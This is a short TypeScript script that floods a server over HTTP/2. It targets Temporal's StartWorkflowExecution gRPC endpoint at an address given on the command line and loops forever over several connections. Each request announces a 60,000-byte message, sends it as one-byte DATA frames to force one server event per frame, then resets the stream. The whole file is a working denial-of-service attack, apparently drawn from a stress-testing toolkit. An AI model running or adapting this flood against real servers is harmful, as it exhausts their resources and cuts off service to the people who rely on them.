/** Requests in pieces of one byte: each DATA frame is one event of a server. Another connection when one is ended. */
import { floodForEver } from '../flood-loop.ts';
import { data, firstHeaders, messageHead, nextHeaders, Repeated, reset } from '../raw-http2.ts';

const [address = '', connections = '1'] = process.argv.slice(2);
const path = '/temporal.api.workflowservice.v1.WorkflowService/StartWorkflowExecution';
const announced = 60_000;
const piece = Buffer.from([0]);
const request = new Repeated(1, (stream) => [
  nextHeaders(stream),
  data(stream, messageHead(announced)),
  ...Array.from({ length: announced - 1 }, () => data(stream, piece)),
  reset(stream),
]);

await floodForEver(address, Number(connections), () => request.behind([firstHeaders(1, path), reset(1)]));
